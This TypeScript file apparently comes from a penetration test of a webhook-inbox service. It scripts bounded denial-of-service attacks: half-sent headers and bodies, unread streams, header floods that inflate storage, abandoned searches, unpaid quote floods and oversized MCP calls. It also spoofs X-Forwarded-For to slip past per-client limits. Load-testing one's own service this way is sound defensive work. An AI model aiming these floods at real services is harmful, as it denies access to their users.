/**
 * Attacks that one cheap buyer, or a stranger who buys nothing, can make on the others. They come from a
 * penetration test. They are bounded in count and time, and use only what any stranger knows.
 */
import { silentNames } from './names.ts'
import {
  buyInbox,
  fetchFrom,
  fill,
  get,
  type Inbox,
  networkAddress,
  openUnread,
  pause,
  sent,
  type Target,
  upload,
} from './target.ts'

export type Attack = {
  name: string
  /** How many times longer than without an attack a bystander may wait. Default: `MOST` in main.ts alone. */
  mostTimesIdle?: number
  /** Runs before the service starts, and returns settings of its own. */
  setUp?(signal: AbortSignal): Promise<Record<string, string>>
  /** Runs before the measurement, and returns the inboxes that the attack has bought. */
  prepare(target: Target): Promise<Inbox[]>
  run(target: Target, inboxes: Inbox[]): Promise<void>
}

const KIB = 1024
const MIB = 1024 * KIB
/** Longer than any attack. */
const UNTIL_THE_END_MS = 60 * 60 * 1000
const ATTACKER = networkAddress(1)

/** 64 streams of each of seven inboxes, whose events are all headers. The clients read nothing. */
const streams: Attack = {
  name: '1 streams unread',
  async prepare(target) {
    const inboxes = await bought(target, 7, 'spark')
    // The most empty lines that a head may have. If the service refuses them, fewer and longer lines.
    const lines = await headersTaken(target, inboxes[0] as Inbox, [
      Array.from({ length: 7_400 }, () => ['a', '']),
      Array.from({ length: 240 }, (_, n) => [`x-${n}`, '"'.repeat(100)]),
    ])
    for (const inbox of inboxes) await fillRaw(target, inbox, { count: 64, lines })
    return inboxes
  },
  async run(target, inboxes) {
    for (const { publicId, ownerToken } of inboxes) {
      for (let n = 0; n < 64; n++) {
        const path = `/api/catch/${publicId}/stream`
        reopened(target, get(path, ownerToken, { address: ATTACKER, lastEventId: 0 }))
      }
    }
    await pause(UNTIL_THE_END_MS, target.signal)
  },
}

/** Requests pages of control characters: unread, pipelined on one connection, and as fast as allowed. */
const pages: Attack = {
  name: '2 pages unread, pipelined, read',
  async prepare(target) {
    const inboxes = await bought(target, 3, 'spark')
    const body = Buffer.alloc(64 * KIB, 1)
    for (const inbox of inboxes) {
      target.note(`${await fill(target, inbox, { count: 79, request: () => ({ body }) })} bodies`)
    }
    return inboxes
  },
  async run(target, inboxes) {
    const [first] = inboxes as [Inbox]
    const path = ({ publicId }: Inbox): string => `/api/catch/${publicId}/events?limit=50`
    const ask = get(path(first), first.ownerToken, { address: ATTACKER })
    for (let n = 0; n < 60; n++) openUnread(target, ask)
    openUnread(target, ask.repeat(50))
    let read = 0
    const reader = async (inbox: Inbox): Promise<void> => {
      while (!target.signal.aborted) {
        const answer = await fetchFrom(ATTACKER)(target.url + path(inbox), {
          headers: { authorization: `Bearer ${inbox.ownerToken}` },
          signal: target.signal,
        })
        await answer.arrayBuffer()
        if (answer.status === 200) read++
        else await pause(250, target.signal)
      }
    }
    await Promise.all(
      inboxes.slice(1).flatMap((inbox) => [1, 2, 3].map(() => reader(inbox))),
    ).catch(() => {})
    target.note(`${read} pages read`)
  },
}

/** A hundred searches through a large inbox. Each client disconnects after half a second. */
const searches: Attack = {
  name: '3 searches hung up',
  async prepare(target) {
    const [large, small] = await bought(target, 2, 'long')
    const body = Buffer.alloc(MIB - 1, 'search me ')
    target.note(
      `${await fill(target, large as Inbox, { count: 200, request: () => ({ body }) })} MiB`,
    )
    await fill(target, small as Inbox, { count: 20, request: () => ({ body: 'needle' }) })
    return [large, small] as Inbox[]
  },
  async run(target, [large, small]) {
    if (!large || !small) return
    const search = ({ publicId, ownerToken }: Inbox, word: string, signal: AbortSignal) =>
      fetch(`${target.url}/api/catch/${publicId}/events?q=${word}`, {
        headers: { authorization: `Bearer ${ownerToken}` },
        signal,
      })
    for (let n = 0; n < 100; n++) {
      search(large, 'nowhere', AbortSignal.timeout(500)).catch(() => {})
    }
    await pause(1_000, target.signal)
    const begin = performance.now()
    const answer = await search(small, 'needle', target.signal).catch(() => null)
    const took = Math.round(performance.now() - begin)
    target.note(`another inbox's search: ${answer ? `${answer.status} after ${took} ms` : 'never'}`)
    await pause(UNTIL_THE_END_MS, target.signal)
  },
}

/** Sixteen uploads of 8 MiB from four networks. Each stops before its last byte. */
const uploads: Attack = {
  name: '4 slow uploads',
  prepare: async () => [],
  async run(target) {
    while (!target.signal.aborted) {
      await Promise.all(
        Array.from({ length: 16 }, (_, n) =>
          sent(
            target,
            upload(8 * MIB, 'long', networkAddress(n % 4)),
            Buffer.alloc(8 * MIB - 1, n),
          ),
        ),
      )
      await pause(5_000, target.signal)
    }
  },
}

/** A hundred networks request quotes for as many secrets as they can. Then newcomers request small ones. */
const secrets: Attack = {
  name: '5 unpaid secrets',
  async prepare(target) {
    const until = performance.now() + MAX_FILLING_MS
    let [next, quoted] = [0, 0]
    const attacker = async (): Promise<void> => {
      while (next < 100 && performance.now() < until) {
        const address = networkAddress(next++)
        // Large secrets first, then smaller ones in the remaining budget.
        for (const [bytes, plan] of SIZES) {
          for (let n = 0; n < 2; n++) {
            if ((await quoteOf(target, { bytes, plan, address })) !== 402) break
            quoted += bytes
          }
        }
      }
    }
    await Promise.all(Array.from({ length: 4 }, attacker))
    target.note(`${Math.round(quoted / MIB)} MiB quoted to ${next} networks`)
    return []
  },
  async run(target) {
    const newcomers = { tried: 0, sold: 0 }
    for (let n = 200; !target.signal.aborted; n++) {
      // The attack continues, and each request comes from a new network.
      await quoteOf(target, { bytes: 8 * MIB, plan: 'long', address: networkAddress(n) })
      const status = await quoteOf(target, {
        bytes: 64 * KIB,
        plan: 'spark',
        address: `192.0.${n % 256}.77`,
      })
      if (target.signal.aborted) break
      newcomers.tried++
      if (status === 402) newcomers.sold++
      await pause(1_000, target.signal)
    }
    target.note(`64 KiB quoted to ${newcomers.sold} of ${newcomers.tried} newcomers`)
  },
}

const MAX_FILLING_MS = 90_000
const SIZES = [
  [8 * MIB, 'long'],
  [MIB, 'standard'],
  [64 * KIB, 'spark'],
] as const

/** Requests the quote of a WHISPER that nobody will pay for. Returns the status. */
async function quoteOf(
  target: Target,
  { bytes, plan, address }: { bytes: number; plan: string; address: string },
): Promise<number> {
  const answer = await fetchFrom(address)(`${target.url}/api/payments/whisper`, {
    method: 'POST',
    headers: {
      'content-type': 'application/octet-stream',
      'idempotency-key': crypto.randomUUID(),
      'x-whisper-plan': plan,
    },
    body: Buffer.alloc(bytes, 7),
    signal: target.signal,
  }).catch(() => null)
  await answer?.arrayBuffer().catch(() => {})
  return answer?.status ?? 0
}

/** Six hundred senders to an inbox, and as many to a full one. Each leaves out the last byte. */
const bodies: Attack = {
  name: '6 slow bodies',
  async prepare(target) {
    const inboxes = [...(await bought(target, 1, 'long')), ...(await bought(target, 1, 'spark'))]
    await fill(target, inboxes[1] as Inbox, { count: 100, request: () => ({}) })
    return inboxes
  },
  async run(target, inboxes) {
    const post = ({ publicId }: Inbox, bytes: number, n: number): string =>
      `POST /c/${publicId} HTTP/1.1\r\nHost: x\r\nContent-Length: ${bytes}\r\n` +
      `X-Forwarded-For: ${networkAddress(n % 40)}\r\n\r\n`
    const [long, full] = inboxes as [Inbox, Inbox]
    for (let n = 0; n < 600 && !target.signal.aborted; n += 20) {
      await Promise.all(
        Array.from({ length: 20 }, (_, i) => [
          sent(target, post(long, MIB, n + i), Buffer.alloc(MIB - 1)),
          sent(target, post(full, 64 * KIB, n + i), Buffer.alloc(64 * KIB - 1)),
        ]).flat(),
      )
      await pause(100, target.signal)
    }
    await pause(UNTIL_THE_END_MS, target.signal)
  },
}

/** Requests that are all headers, to exceed the storage that was bought. */
const headers: Attack = {
  name: '7 headers against storage',
  prepare: (target) => bought(target, 1, 'spark'),
  async run(target, [inbox]) {
    if (!inbox) return
    const before = target.storeBytes()
    const lines = await headersTaken(target, inbox, [
      Array.from({ length: 7_400 }, () => ['a', '']),
      Array.from({ length: 240 }, (_, n) => [`x-${n}`, '"'.repeat(100)]),
    ])
    const taken = await fillRaw(target, inbox, { count: 99, lines })
    const answer = await fetch(`${target.url}/api/catch/${inbox.publicId}`, {
      headers: { authorization: `Bearer ${inbox.ownerToken}` },
    })
    const { storedBytes } = (await answer.json()) as { storedBytes: number }
    const grown = ((target.storeBytes() - before) / MIB).toFixed(1)
    target.note(
      `${taken} requests taken, storedBytes ${(storedBytes / MIB).toFixed(1)} MiB, files +${grown} MiB`,
    )
    await pause(3_000, target.signal)
  },
}

const mcpCall = (body: string, address: string): string =>
  `POST /mcp HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n` +
  `Accept: application/json, text/event-stream\r\nX-Forwarded-For: ${address}\r\n` +
  `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`

/** Messages of 1.38 MB that are all empty objects, five at a time, by one client who buys nothing. */
const objects: Attack = {
  name: '8 objects to /mcp',
  mostTimesIdle: 4,
  prepare: async () => [],
  async run(target) {
    const body = `[${'{},'.repeat(460_000)}{}]`
    const counts = new Map<string, number>()
    const sender = async (n: number): Promise<void> => {
      while (!target.signal.aborted) {
        const answer = await fetchFrom(networkAddress(n))(`${target.url}/mcp`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', accept: 'application/json' },
          body,
          signal: target.signal,
        }).catch(() => null)
        await answer?.arrayBuffer().catch(() => {})
        const status = String(answer?.status ?? 'closed')
        counts.set(status, (counts.get(status) ?? 0) + 1)
        if (answer?.status === 429) await pause(1_000, target.signal)
      }
    }
    // The limit of requests is a client's, so each of the five is another one.
    await Promise.all([1, 2, 3, 4, 5].map(sender))
    target.note([...counts].map(([status, count]) => `${count} times ${status}`).join(', '))
  },
}

/**
 * Waits from eight networks, twice as many as may be under way. Each holds nearly what a wait may hold, half of them as
 * values, each of which counts 100 bytes.
 */
const waits: Attack = {
  name: '9 waits at /mcp',
  mostTimesIdle: 4,
  prepare: (target) => bought(target, 8, 'spark'),
  async run(target, inboxes) {
    const counts = new Map<string, number>()
    for (let n = 0; n < 1024; n++) {
      const { publicId, ownerToken } = inboxes[n % 8] as Inbox
      const body = JSON.stringify({
        jsonrpc: '2.0',
        id: n,
        method: 'tools/call',
        params: {
          name: 'wait_for_webhook',
          arguments: { publicId, after: 0, timeoutSeconds: 600 },
          _meta: {
            'org.mayfly/token': ownerToken,
            filling: n % 16 < 8 ? 'x'.repeat(28 * KIB) : Array.from({ length: 280 }, () => 0),
          },
        },
      })
      openUnread(target, mcpCall(body, networkAddress(n % 8)))
        .once('data', (answer) => {
          const status = answer.toString('latin1').slice(9, 12)
          counts.set(status, (counts.get(status) ?? 0) + 1)
        })
        .resume()
      if (n % 64 === 63) await pause(100, target.signal)
    }
    await pause(UNTIL_THE_END_MS, target.signal)
    target.note([...counts].map(([status, count]) => `${count} times ${status}`).join(', '))
  },
}

/** Ten thousand heads of 30 KB that do not end. */
const heads: Attack = {
  name: '11 half-sent headers',
  mostTimesIdle: 4,
  prepare: async () => [],
  async run(target) {
    const head = Buffer.from(
      `GET /health HTTP/1.1\r\nHost: x\r\n${`x-filling: ${'x'.repeat(988)}\r\n`.repeat(30)}`,
    )
    let closed = 0
    for (let n = 0; n < 10_000 && !target.signal.aborted; n++) {
      openUnread(target, head)
        .resume()
        .once('close', () => closed++)
      if (n % 50 === 49) await pause(10, target.signal)
    }
    target.note(`${closed} closed by the service`)
    await pause(UNTIL_THE_END_MS, target.signal)
  },
}

export const ATTACKS: Attack[] = [
  ...[streams, pages, searches, uploads, secrets, bodies, headers],
  ...[silentNames, objects, waits, heads],
]

function bought(target: Target, count: number, planId: 'spark' | 'long'): Promise<Inbox[]> {
  return Promise.all(Array.from({ length: count }, () => buyInbox(target, planId, ATTACKER)))
}

/** Opens an unread connection, and opens it again whenever the service closes it. */
function reopened(target: Target, bytes: string): void {
  openUnread(target, bytes).once('close', async () => {
    await pause(1_000, target.signal)
    if (!target.signal.aborted) reopened(target, bytes)
  })
}

type Lines = string[][]

/** The first of these headers that the service accepts. */
async function headersTaken(target: Target, inbox: Inbox, some: Lines[]): Promise<Lines> {
  for (const lines of some)
    if ((await fillRaw(target, inbox, { count: 1, lines })) === 1) return lines
  return []
}

/** Sends requests that fetch would refuse to send. Returns how many the service stored. */
async function fillRaw(
  target: Target,
  { publicId }: Inbox,
  { count, lines }: { count: number; lines: Lines },
): Promise<number> {
  const head = lines.map(([name, value]) => `${name}:${value}\r\n`).join('')
  let taken = 0
  for (let n = 0; n < count && !target.signal.aborted; ) {
    const answer = await exchange(
      target,
      `POST /c/${publicId} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${head}\r\n`,
    )
    if (answer.startsWith('HTTP/1.1 429')) {
      await pause(200, target.signal)
      continue
    }
    if (answer.startsWith('HTTP/1.1 204')) taken++
    n++
  }
  return taken
}

function exchange(target: Target, request: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = openUnread(target, Buffer.from(request, 'latin1'))
    let answer = ''
    socket.on('data', (part) => {
      answer += part
    })
    socket.on('close', () => resolve(answer))
    socket.resume()
  })
}
